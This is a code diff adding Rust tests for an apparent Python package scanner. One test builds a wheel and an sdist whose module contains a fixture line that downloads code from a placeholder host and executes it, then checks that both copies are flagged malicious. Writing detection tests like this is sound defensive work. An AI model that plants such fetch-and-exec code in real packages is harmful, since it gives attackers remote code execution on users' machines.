@@ -293,3 +293,63 @@ fn a_lock_is_scanned_from_its_urls_and_a_hash_mismatch_is_a_finding() {
         "{good:#}"
     );
 }
+
+#[test]
+fn a_file_shared_by_a_wheel_and_its_sdist_is_judged_the_same_in_both() {
+    // The same module in both artifacts: the second is not scanned again, its evidence is
+    // reused under its own path, and the verdicts agree.
+    let dir = tempfile::tempdir().unwrap();
+    let module: &[u8] =
+        b"import requests\nexec(requests.get('http://updates.example.com/v').text)\n";
+    let wheel = build_wheel_with("tidy", "1.0", &[], &[("tidy/__init__.py", module)]);
+    let sdist = build_sdist_with(
+        "tidy",
+        "1.0",
+        &[],
+        &[
+            ("setup.py", HONEST_SETUP.as_bytes()),
+            ("tidy/__init__.py", module),
+        ],
+    );
+    write(dir.path(), "tidy-1.0-py3-none-any.whl", &wheel);
+    write(dir.path(), "tidy-1.0.tar.gz", &sdist);
+    let (code, report, _) = scan(
+        dir.path(),
+        &["tidy-1.0-py3-none-any.whl", "tidy-1.0.tar.gz"],
+        &[],
+    );
+    assert_eq!(code, 1);
+    for (suffix, member) in [
+        ("tidy-1.0-py3-none-any.whl", "tidy/__init__.py"),
+        ("tidy-1.0.tar.gz", "tidy-1.0/tidy/__init__.py"),
+    ] {
+        let a = verdict(&report, suffix);
+        assert_eq!(a["verdict"], "malicious", "{a:#}");
+        let f = a["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["id"] == "dynamic-exec")
+            .unwrap_or_else(|| panic!("no dynamic-exec finding in {a:#}"));
+        assert_eq!(f["location"]["member"], member, "{f:#}");
+        assert_eq!(f["location"]["line"], 2, "{f:#}");
+    }
+}
+
+#[test]
+fn an_unreadable_input_is_named_once_with_its_cause() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = assert_cmd::Command::cargo_bin("cordon")
+        .unwrap()
+        .current_dir(dir.path())
+        .args(["scan", "missing-1.0.tar.gz", "--no-progress"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = String::from_utf8(out.stderr).unwrap();
+    assert!(
+        stderr.contains("cannot read missing-1.0.tar.gz"),
+        "{stderr}"
+    );
+    assert_eq!(stderr.matches("os error 2").count(), 1, "{stderr}");
+}
